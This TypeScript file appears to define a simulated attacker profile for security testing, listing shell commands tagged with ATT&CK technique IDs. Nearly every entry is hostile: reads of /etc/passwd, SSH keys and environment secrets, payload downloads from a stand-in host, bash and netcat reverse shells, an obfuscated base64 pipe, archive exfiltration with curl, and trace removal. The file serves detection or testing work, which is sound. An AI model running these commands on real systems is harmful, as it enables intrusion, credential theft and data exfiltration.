import { exec } from './hand';
import type { Hand } from './hand';

/** Somebody whose way in starts programs without a shell: deserialisation, template injection, `Runtime.exec(String[])`. */
export const argvA: Hand = {
  name: 'argv_a',
  commands: [
    exec('whoami', 'T1033', 'whoami'),
    exec('id', 'T1033', 'id'),
    exec('uname', 'T1082', 'uname', '-a'),
    exec('list-dir', 'T1083', 'ls', '-la', '{app}'),
    exec('passwd', 'T1087.001', 'cat', '/etc/passwd'),
    exec('config-read', 'T1552.001', 'cat', '{config}'),
    exec('proc-environ', 'T1552', 'cat', '/proc/self/environ'),
    exec('ssh-keys', 'T1552.004', 'cat', '/root/.ssh/id_rsa'),
    exec('grep-secrets', 'T1552.001', 'grep', '-rn', 'password', '{app}'),
    exec('processes', 'T1057', 'ps', 'auxww'),
    exec('suid-find', 'T1548.001', 'find', '/usr/bin', '-perm', '-u=s', '-type', 'f'),
    exec('fetch', 'T1105', 'wget', '-q', 'http://203.0.113.66/linux64', '-O', '/tmp/.cache-u'),
    exec('make-executable', 'T1222.002', 'chmod', '+x', '/tmp/.cache-u'),
    exec('run-staged', 'T1059', '/tmp/.cache-u', '-d'),
    exec('fetch-curl', 'T1105', 'curl', '-o', '{uploads}/t.php', 'http://203.0.113.66/c.php'),
    exec('call-back', 'T1190', 'curl', 'http://203.0.113.66/k3j'),
    exec('call-back-name', 'T1190', 'nslookup', 'p0q9.oast.example'),
    exec('call-back-ping', 'T1190', 'ping', '-c', '2', '203.0.113.66'),
    exec('bash-inner', 'T1059.004', 'bash', '-c', '{echo,aWQ=}|{base64,-d}|{bash,-i}'),
    exec('bash-revshell', 'T1059.004', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'),
    exec('nc-revshell', 'T1059.004', 'nc', '-e', '/bin/sh', '203.0.113.66', '9001'),
    exec('python-inline', 'T1059.006', 'python3', '-c', 'import os;print(os.popen("id").read())'),
    exec('perl-inline', 'T1059', 'perl', '-e', 'print `uname -a`'),
    exec('touch-proof', 'T1190', 'touch', '/tmp/pwned'),
    exec('archive', 'T1560.001', 'tar', 'czf', '/tmp/.o.tgz', '{app}'),
    exec('send-out', 'T1048', 'curl', '--data-binary', '@/tmp/.o.tgz', 'http://203.0.113.66:8000/'),
    exec('send-passwd', 'T1048', 'curl', '-F', 'f=@/etc/passwd', 'http://203.0.113.66/'),
    exec('remove', 'T1070.004', 'rm', '-f', '/tmp/.o.tgz', '/tmp/.cache-u'),
  ],
};
